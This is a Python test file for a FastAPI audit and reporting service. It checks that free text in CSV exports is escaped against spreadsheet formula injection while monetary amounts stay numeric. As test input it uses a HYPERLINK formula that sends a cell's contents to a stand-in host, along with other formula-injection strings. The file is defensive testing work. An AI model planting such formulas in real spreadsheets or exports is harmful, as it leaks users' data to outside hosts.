"""Sender and auditor free text in the CSV exports cannot run as a spreadsheet formula.

The duplicates report and the deduction list carry free text -- ORC-16 reason text, an auditor's
review reason, names -- into cells an auditor opens in Excel: ``=HYPERLINK(...)`` ran as a
formula. A text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR now starts with
``'`` (OWASP's advice), in one helper both exports use; the numbers the export writes stay
numbers. Real HTTP through FastAPI.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from engine.recognition.reports import csv_cell
from tests.test_recognition_world import B
from tests.test_reports_duplicates import bearer, county  # noqa: F401  (the flags fixture)

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"点击")'


def _table(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_formula_in_free_text_is_text_in_both_exports(engine: Any, county: Any) -> None:  # noqa: F811
    http = county["http"]
    flags = http.get("/reports/duplicates?status=flagged", headers=bearer(engine)).json()["rows"]
    auditor = bearer(engine, "system/DetectedIssue.rus system/ChargeItem.rs system/Encounter.rs")
    for row in flags:
        assert http.post(f"/reports/duplicates/{row['id']}/review", headers=auditor,
                         json={"decision": "upheld", "reason": FORMULA}).status_code == 200
    dup = _table(http.get("/reports/duplicates?_format=csv", headers=auditor).content)
    deductions = _table(http.get(f"/reports/deductions?institution={B}&month=2026-03&_format=csv",
                                 headers=auditor).content)
    for table in (dup, deductions):
        cells = [c for r in table for c in r]
        assert "'" + FORMULA in cells and FORMULA not in cells
        assert not [c for c in cells if c and c[0] in "=+@"], cells
    body = [dict(zip(deductions[0], r, strict=True)) for r in deductions[1:] if r and r[0] != "合计"]
    assert {r["扣款金额"] for r in body} == {"20.00", "60.00"}  # the amounts stay numbers


def test_the_exports_own_numbers_stay_numbers() -> None:
    assert [csv_cell(v) for v in ("-20.00", "-3", -1.5, "@x", "-x", "\tx", "+1", "正常")] == [
        "-20.00", "-3", -1.5, "'@x", "'-x", "'\tx", "'+1", "正常"]


def test_a_formula_after_blanks_or_in_full_width_is_text() -> None:
    """Review of recfix15: a spreadsheet also reads a formula after leading blanks or a line break,
    and a Chinese input method types the full-width signs; each had been left as it came."""
    cells = (" =HYPERLINK(\"http://x\")", "\n=1+1", "\u3000=1", "＝HYPERLINK(\"http://x\")", "－1+1", "＠x", "  正常")
    assert [csv_cell(v) for v in cells] == ["'" + v for v in cells[:-1]] + ["  正常"]
